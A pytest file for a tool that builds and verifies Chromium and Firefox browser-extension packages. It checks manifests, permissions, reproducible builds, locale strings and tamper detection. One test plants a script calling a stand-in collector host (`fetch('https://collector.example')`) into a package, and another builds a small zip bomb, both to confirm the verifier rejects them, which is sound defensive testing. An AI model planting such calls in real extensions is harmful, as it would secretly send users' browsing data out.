"""`clf extension build`: what goes into a release, for which browser, and what it refuses."""

import json
import re
import shutil
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from typer.testing import CliRunner

import clf
from clf.cli import app
from clf.extension import BROWSERS, build_extension, changed_files
from clf.model.bundle import read_bundle, write_bundle
from clf.page.features.tables import REASONS


@pytest.fixture(scope="module")
def out(root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("releases")
    build_extension(root / "extension", root / "clf" / "bundle", folder)
    return folder


def manifest(out: Path, browser: str) -> dict[str, object]:
    found: dict[str, object] = json.loads((out / browser / "manifest.json").read_text(encoding="utf-8"))
    return found


@pytest.mark.parametrize("browser", BROWSERS)
def test_the_zip_holds_what_the_folder_holds_and_all_that_the_manifest_names(out: Path, browser: str) -> None:
    (archive,) = out.glob(f"clf-{browser}-*.zip")
    with zipfile.ZipFile(archive) as packed:
        contents = {name: packed.read(name) for name in packed.namelist()}
    folder = out / browser
    on_disk = {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    assert contents == on_disk
    named = json.dumps(manifest(out, browser))
    assert {f"icons/{size}.png" for size in (16, 32, 48, 128)} <= set(contents)
    assert all(name in contents for name in ("background/main.js", "content/main.js", "popup/popup.html"))
    assert "background/main.js" in named
    assert not {"README.md", "package.json"} & set(contents)
    assert not any(name.startswith("store/") for name in contents)


@pytest.mark.parametrize("browser", BROWSERS)
def test_every_module_and_file_that_is_asked_for_is_there(out: Path, browser: str) -> None:
    folder = out / browser
    imports = re.compile(r'^(?:import .*|\} )from "([^"]+)";$|^import "([^"]+)";$', re.MULTILINE)
    found = [
        (script.parent / name)
        for script in folder.rglob("*.js")
        for names in imports.findall(script.read_text(encoding="utf-8"))
        for name in names
        if name
    ]
    assert len(found) > 30
    assert [path for path in found if not path.is_file()] == []


def test_each_browser_gets_its_background_and_no_access_to_a_site_before_the_user_gives_it(out: Path) -> None:
    chromium, firefox = manifest(out, "chromium"), manifest(out, "firefox")
    assert chromium["background"] == {"service_worker": "background/main.js", "type": "module"}
    assert firefox["background"] == {"scripts": ["background/main.js"], "type": "module"}
    assert "gecko" in firefox["browser_specific_settings"]
    for found in (chromium, firefox):
        # None of these permissions gives access to a site, and none has a warning.
        assert found["permissions"] == ["storage", "scripting", "activeTab"]
        assert found["optional_host_permissions"] == ["http://*/*", "https://*/*"]
        assert not {"host_permissions", "content_scripts", "web_accessible_resources"} & set(found)


def test_the_content_scripts_that_the_background_starts_are_those_in_the_folder(out: Path) -> None:
    access = (out / "chromium" / "background" / "access.js").read_text(encoding="utf-8")
    named = re.findall(r'"(content/[^"]+)"', access)
    assert sorted(named) == sorted(f"content/{path.name}" for path in (out / "chromium" / "content").iterdir())


def test_the_bundle_inside_is_the_bundle_without_what_a_browser_has_no_use_for(out: Path, root: Path) -> None:
    inside = out / "chromium" / "bundle"
    assert (inside / "manifest.json").read_bytes() == (root / "clf" / "bundle" / "manifest.json").read_bytes()
    assert sorted(path.name for path in inside.iterdir()) == [
        "headline-en.json.gz",
        "headline-es.json.gz",
        "headline-ro.json.gz",
        "language.json.gz",
        "manifest.json",
        "page-1.json.gz",
        "page-2.json.gz",
        "page-promo.json.gz",
        "page-sponsored.json.gz",
    ]


def test_the_same_input_gives_the_same_bytes_and_replaces_what_stood_there(
    out: Path, root: Path, tmp_path: Path
) -> None:
    (tmp_path / "chromium").mkdir()
    (tmp_path / "chromium" / "old.js").write_text("", encoding="utf-8")
    archives = build_extension(root / "extension", root / "clf" / "bundle", tmp_path)
    assert [archive.read_bytes() for archive in archives] == [(out / archive.name).read_bytes() for archive in archives]
    assert not (tmp_path / "chromium" / "old.js").exists()
    assert {path.name for path in tmp_path.iterdir()} == {
        "chromium",
        "firefox",
        *(archive.name for archive in archives),
    }


def test_both_languages_say_the_same_things(root: Path) -> None:
    locales = root / "extension" / "_locales"
    english, romanian = (
        json.loads((locales / name / "messages.json").read_text(encoding="utf-8")) for name in ("en", "ro")
    )
    # English reasons are the model's own words.
    assert set(english) == {name for name in romanian if not name.startswith("reason_")}
    for name, entry in english.items():
        assert entry["message"].count("$") == romanian[name]["message"].count("$"), name


def test_every_reason_has_words_in_romanian(root: Path) -> None:
    romanian = json.loads((root / "extension" / "_locales" / "ro" / "messages.json").read_text(encoding="utf-8"))
    names = {f"reason_{reason.replace('-', '_')}": words for reason, words in REASONS.items()}
    assert set(names) == {name for name in romanian if name.startswith("reason_")}
    for name, words in names.items():
        assert ("{" in words) == ("$1" in romanian[name]["message"]), name


def test_every_word_that_is_asked_for_is_known(root: Path) -> None:
    english = json.loads((root / "extension" / "_locales" / "en" / "messages.json").read_text(encoding="utf-8"))
    pages = "".join(path.read_text(encoding="utf-8") for path in (root / "extension").rglob("*.html"))
    asked = {part.split('"')[0] for part in pages.split('data-say="')[1:]}
    assert len(asked) > 20
    assert asked <= set(english)


def test_the_verb_says_where_the_releases_are(root: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(app, ["extension", "build", "--out", str(tmp_path / "new")])
    assert result.exit_code == 0
    assert str(tmp_path / "new" / "chromium") in result.output
    assert len(list((tmp_path / "new").glob("*.zip"))) == 2


def test_a_folder_without_the_extension_a_bundle_that_was_changed_and_a_file_in_the_way_are_refused(
    root: Path, tmp_path: Path
) -> None:
    with pytest.raises(clf.InputError, match="does not hold the extension"):
        build_extension(tmp_path, root / "clf" / "bundle", tmp_path / "out")
    broken = tmp_path / "bundle"
    shutil.copytree(root / "clf" / "bundle", broken)
    (broken / "page-1.json.gz").write_bytes(b"garbage")
    with pytest.raises(clf.BundleError, match="was changed"):
        build_extension(root / "extension", broken, tmp_path / "out")
    (tmp_path / "file").write_text("", encoding="utf-8")
    with pytest.raises(clf.ClfError, match="could not write"):
        build_extension(root / "extension", root / "clf" / "bundle", tmp_path / "file")


def test_a_bundle_without_a_page_head_is_refused(model: clf.Model, root: Path, tmp_path: Path) -> None:
    bundle = read_bundle(root / "clf" / "bundle")
    heads = {"headline-ro": bundle.manifest.heads["headline-ro"]}
    small = replace(
        bundle, manifest=replace(bundle.manifest, heads=heads), scorers={"headline-ro": bundle.scorers["headline-ro"]}
    )
    write_bundle(small, tmp_path / "small")
    with pytest.raises(clf.BundleError, match="has no page head"):
        build_extension(root / "extension", tmp_path / "small", tmp_path / "out")


@pytest.mark.parametrize("browser", BROWSERS)
def test_a_package_that_was_changed_is_detected(out: Path, root: Path, tmp_path: Path, browser: str) -> None:
    (archive,) = out.glob(f"clf-{browser}-*.zip")
    sources, bundle = root / "extension", root / "clf" / "bundle"
    assert changed_files(archive, sources, bundle) == []
    changed = tmp_path / "changed.zip"
    with zipfile.ZipFile(archive) as packed, zipfile.ZipFile(changed, "w") as written:
        for name in packed.namelist():
            if name != "pages.css":
                spoilt = name in ("content/main.js", "manifest.json")
                written.writestr(name, packed.read(name) + (b"\n" if spoilt else b""))
        written.writestr("content/extra.js", b"fetch('https://collector.example')")
        written.writestr("META-INF/manifest.mf", b"signed by a store")
    assert changed_files(changed, sources, bundle) == [
        "content/extra.js: added",
        "content/main.js: changed",
        "manifest.json: changed",
        "pages.css: missing",
    ]
    result = CliRunner().invoke(app, ["extension", "verify", str(changed)])
    assert isinstance(result.exception, clf.ClfError)
    assert "content/extra.js: added" in str(result.exception)
    assert CliRunner().invoke(app, ["extension", "verify", str(archive)]).exit_code == 0


def test_files_that_are_no_package_are_refused(root: Path, tmp_path: Path) -> None:
    absent, text, other, bomb = (tmp_path / name for name in ("absent.zip", "text.zip", "other.zip", "bomb.zip"))
    text.write_text("no zip", encoding="utf-8")
    with zipfile.ZipFile(other, "w") as written:
        written.writestr("a.txt", b"")
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as written:
        written.writestr("manifest.json", b" " * 50_000_001)
    wanted = {absent: "cannot be read", text: "cannot be read", other: "no manifest.json", bomb: "unpacks to more"}
    for archive, words in wanted.items():
        with pytest.raises(clf.InputError, match=words):
            changed_files(archive, root / "extension", root / "clf" / "bundle")
